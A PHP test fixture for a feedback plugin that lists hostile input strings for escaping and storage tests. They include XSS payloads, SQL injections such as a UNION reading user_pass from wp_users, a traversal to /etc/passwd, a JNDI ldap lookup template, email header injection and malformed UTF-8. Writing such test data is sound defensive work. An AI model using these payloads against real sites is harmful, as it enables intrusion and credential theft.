<?php
declare(strict_types=1);

namespace UserFeedback\Tests\Support\Hostile;

/** Malicious text, or text from an unusual keyboard. */
final class HostileText {

	/**
	 * Part of each of them, so that stored parts are found again. It has an underscore, which base64 lacks: an
	 * encrypted secret must not contain it by coincidence.
	 */
	public const MARK = 'uf_7q';

	/** @return array<string, string> */
	public static function all(): array {
		$mark = self::MARK;
		return array(
			'a script'             => "$mark<script>alert(1)</script>",
			'an end of a script'   => "$mark</script><script>alert(1)</script>",
			'a handler'            => "$mark\"><img src=x onerror=alert(1)>",
			'an svg'               => "$mark<svg/onload=alert(1)>",
			'a script address'     => "javascript:alert(1)//$mark",
			'a data address'       => "data:text/html,$mark<script>alert(1)</script>",
			'an address, escaped'  => "http://example.org/$mark\" onmouseover=\"alert(1)",
			'entities'             => "$mark&lt;b&gt;&amp;amp;&#x3C;",
			'a statement'          => "$mark'; DROP TABLE wp_uf_surveys; -- ",
			'a condition'          => "$mark' OR '1'='1",
			'a union'              => "$mark) UNION SELECT user_pass, 2 FROM wp_users -- ",
			'a delay'              => "$mark', (SELECT SLEEP(9)), '",
			'a backslash'          => "$mark\\' OR 1=1 -- \\",
			'placeholders'         => "$mark %s %d %1\$s %% {surveys} {%d}",
			'wildcards'            => "$mark%_%_[a-z]*",
			'an object'            => Tripwire::serialized( $mark ),
			'an array, serialized' => 'a:1:{i:0;' . Tripwire::serialized( $mark ) . '}',
			'a shortcode'          => "{$mark}[userfeedback id=1] {{7*7}} <?php phpinfo();",
			'a formula'            => "=HYPERLINK(\"http://example.org/$mark\")",
			'headers'              => "$mark\r\nBcc: someone@example.org\r\n\r\nHello",
			'right to left'        => "\u{202E}$mark\u{0645}\u{0631}\u{062D}\u{0628}\u{0627}\u{202C}.",
			'emoji'                => "\u{1F469}\u{200D}\u{1F680}$mark\u{1F1E9}\u{1F1EA}\u{1F3FD}",
			'accents in a heap'    => $mark . str_repeat( "\u{0301}\u{0336}", 20 ),
			'odd spaces'           => "$mark\u{2028}\u{00AD}\u{200B}\u{FFFE}x",
			'a path'               => "../../../../$mark/etc/passwd",
			'a template of a name' => "$mark\${jndi:ldap://example.org/a}",
		);
	}

	/** @return array<string, string> JSON of text that can't be stored. */
	public static function unstorable(): array {
		return array(
			'NUL'                     => '"a\u0000b"',
			'a control character'     => '"a\u0007b"',
			'half a pair'             => '"a\ud800b"',
			'halves in wrong order'   => '"\udc00\ud800"',
			'a byte that is no UTF-8' => "\"a\xFFb\"",
			'an overlong byte pair'   => "\"a\xC0\xAFb\"",
		);
	}
}
